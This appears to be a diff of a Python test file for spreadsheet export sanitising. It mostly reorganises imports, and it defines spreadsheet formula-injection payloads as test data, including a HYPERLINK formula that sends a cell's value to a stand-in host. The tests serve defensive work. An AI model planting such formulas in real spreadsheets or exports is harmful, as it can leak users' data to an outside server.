@@ -15,9 +15,11 @@ import io
 from openpyxl import Workbook, load_workbook
 
 from handlers.data.inert import inert, inert_row
-from tests.harness import card_text, local_path
-from tests.test_data_steps import (ABNORMAL, COUNSELORS, EVALUATION, JPEG, MAKEUP, OFFICE, SECRETARIES,
-                                   card_url, finish_office_tasks, link_in, run_of, upload)
+from tests.support.files import ABNORMAL, EVALUATION, JPEG, MAKEUP
+from tests.support.flows import finish_office_tasks, run_of
+from tests.support.harness import card_text, card_url, local_path
+from tests.support.pages import link_in, upload
+from tests.support.people import COUNSELORS, OFFICE, SECRETARIES
 
 FORMULA = '=HYPERLINK("http://x?d="&B2,"x")'
 HOSTILE = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
